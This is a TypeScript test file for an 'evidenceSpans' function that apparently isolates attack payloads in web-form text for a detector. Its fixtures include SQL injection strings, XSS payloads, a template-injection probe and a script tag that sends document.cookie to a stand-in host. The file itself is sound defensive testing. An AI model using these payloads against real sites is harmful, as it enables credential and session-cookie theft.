/**
 * Evidence-anchored windows (src/model/evidence-spans.ts, session 33, dil33): the clusters of attack evidence of a
 * form scored whole, scored on their own where an injection rule's hit points at the field, so prose around a payload
 * does not dilute it.
 */
import { describe, expect, it } from 'vitest';
import { evidenceSpans, withoutCodeSpans } from '../../src/model/evidence-spans.js';

function spansOf(text: string, island = false): string[] {
  const s = evidenceSpans(text, { island });
  const out: string[] = [];
  for (let k = 0; k < s.length; k += 2) out.push(text.slice(s[k], s[k + 1]));
  return out;
}

const PROSE = 'Thanks for the quick reply. I checked the order history page again this morning.';

describe('evidenceSpans', () => {
  it('finds a payload set in prose, before, after or around it (the lead\'s issue-14 carriers)', () => {
    expect(spansOf(`${PROSE} ' UNION SELECT username,password FROM users--`)).toEqual(["' UNION SELECT username,password FROM users--"]);
    expect(spansOf(`${PROSE} <img src=x onerror=alert(document.domain)>`)).toEqual(['<img src=x onerror=alert(document.domain)>']);
    expect(spansOf(`<script>fetch('//x.test/?c='+document.cookie)</script> ${PROSE}`)).toEqual(["<script>fetch('//x.test/?c='+document.cookie)</script>"]);
    expect(spansOf(`Thanks for the quick reply. I checked {{7*7}} the order history page again this morning.`)).toEqual(['checked {{7*7}} the']);
  });

  it('records (a long form\'s options): clusters end at a line break, a row holding a payload is found among rows whose separators are marks', () => {
    const rows = Array.from({ length: 40 }, (_, i) => `${1000 + i};Ann Berg;ann.berg${i}@example.com;Lyon;`);
    rows[25] += "' UNION SELECT username,password FROM users-- ";
    const csv = ['id;name;email;city;note', ...rows].join('\n');
    // As a short form: rows ending in `;` are code lines, and no prose stands between the clusters.
    expect(evidenceSpans(csv)).toEqual([]);
    const s = evidenceSpans(csv, { maxClusters: 512, records: true });
    const found: string[] = [];
    for (let k = 0; k < s.length; k += 2) found.push(csv.slice(s[k], s[k + 1]));
    expect(found.some((f) => f.includes("' UNION SELECT username,password FROM users--") && !f.includes('\n'))).toBe(true);
    // Code is still code: lines ending as statements do, no rows of fields.
    const code = Array.from({ length: 40 }, (_, i) => `const v${i} = compute(${i}, options);`).join('\n') + "\nconst q = \"' UNION SELECT a FROM b--\";";
    expect(evidenceSpans(code, { maxClusters: 512, records: true })).toEqual([]);
  });

  it('finds nothing in prose, whose punctuation is prose\'s (no model call)', () => {
    expect(spansOf(`${PROSE} I can't log in (again); the link expired! "Odd", she said.`)).toEqual([]);
    expect(spansOf('Please select the order by date and cat the file with id 3 before you drop it.')).toEqual([]);
  });

  it('leaves a form that is technical text whole: a query, code lines, marks everywhere', () => {
    expect(spansOf("SELECT vendor_name, sum(amount) WHERE fiscal_year = '2026' AND vendor_name LIKE '%O''Brien%' GROUP BY vendor_name")).toEqual([]);
    expect(spansOf('Class.forName("org.postgresql.Driver");\nConnection conn = DriverManager.getConnection(url, user, password);\nps.close();')).toEqual([]);
    expect(spansOf('SHELL=/bin/bash\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin\n15 */6 * * 0 intranet /opt/intranet/bin/cleanup --older-than 7d')).toEqual([]);
    expect(spansOf('SHELL=/bin/bash\nPATH=/usr/local/sbin:/usr/local/bin:/usr/bin\nMAILTO=""\n15 * * * 0 app cd /opt/blog && ./venv/bin/python manage.py clearsessions\n')).toEqual([]);
    // Too little prose around the marks to dilute anything: the whole form is what the model reads.
    expect(spansOf("hi ' UNION SELECT username,password FROM users--")).toEqual([]);
  });

  it('does not cut out code quoted in prose: markdown code spans and blocks, <pre>/<code>, a statement, a tag named', () => {
    expect(spansOf("Why does `SELECT * FROM users WHERE name = '' OR 1=1` return every row, and how do prepared statements stop it?")).toEqual([]);
    expect(spansOf("Node: what replaces `require('child_process').exec` with promises? Is util.promisify the way?")).toEqual([]);
    expect(spansOf('this fixed it for me, thanks a lot everyone: ```Class.forName("org.postgresql.Driver");```')).toEqual([]);
    expect(spansOf('<p>Here is the driver setup we use for the nightly job:</p><pre><code>Class.forName("x.Driver");</code></pre>')).toEqual([]);
    expect(spansOf('The review said it is getting SELECT COUNT(*) FROM orders did anyone else see it this morning?')).toEqual([]);
    expect(spansOf('Search results for "<script> tag defer vs async" on the docs site this morning')).toEqual([]);
    // A bare word in backticks is a shell's command substitution as much as markdown: not masked.
    expect(withoutCodeSpans('When you want `id` to run')).toBe('When you want `id` to run');
  });

  it('keeps the densest clusters when there are more than maxSpans', () => {
    const text = `a (b) c. d [e] f. g {h} i. Then, after all of that, the payload comes at the very end of this long support note: <svg onload=alert(document.cookie)>`;
    expect(spansOf(text)).toContain('<svg onload=alert(document.cookie)>');
    expect(spansOf(text).length).toBeLessThanOrEqual(3);
  });

  it('island: only a form\'s one cluster of two marks or more, half the form prose around it', () => {
    expect(spansOf(`${PROSE} <img src=x onerror=alert(1)>`, true)).toEqual(['<img src=x onerror=alert(1)>']);
    expect(spansOf(`(see <b>) ${PROSE} And then <img src=x onerror=alert(1)>`, true)).toEqual([]);
    expect(spansOf(`(see <b>) ${PROSE} And then <img src=x onerror=alert(1)>`)).toEqual(['<img src=x onerror=alert(1)>']);
  });
});
